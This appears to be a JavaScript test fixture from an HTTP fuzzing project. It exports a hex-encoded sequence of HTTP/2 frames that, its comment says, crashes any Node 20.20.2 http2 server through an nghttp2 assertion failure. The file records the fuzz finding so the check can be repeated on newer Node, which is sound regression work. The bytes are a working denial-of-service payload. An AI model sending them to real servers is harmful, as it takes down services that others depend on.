// Four frames after the preface that make Node's bundled nghttp2 (1.61.0 in Node 20.20.2) abort the
// whole process (`nghttp2_session_mem_recv2: Assertion iframe->state == NGHTTP2_IB_IGN_ALL failed`):
// SETTINGS, a GOAWAY from the client, HEADERS opening stream 1, then an RST_STREAM of a length no
// RST_STREAM has. Any node:http2 server reading them dies, with or without the agent's router;
// the HTTP fuzz found it. Kept here so the check can be re-run on a newer Node.
import { PREFACE } from './h2-frames.js';

export const NGHTTP2_ABORT_FRAMES = Buffer.concat([
  PREFACE,
  Buffer.from(
    '00000604000000000000040001cebf' +
      '0000080700000000000000000000000000' +
      '00003b01040000000100073a6d6574686f6404504f535400073a736368656d65046874747000053a70617468062f793f713d31000a3a617574686f726974790466757a7a' +
      '00001303000000000300073a6d6574686f6404504f535400073a7363',
    'hex',
  ),
]);
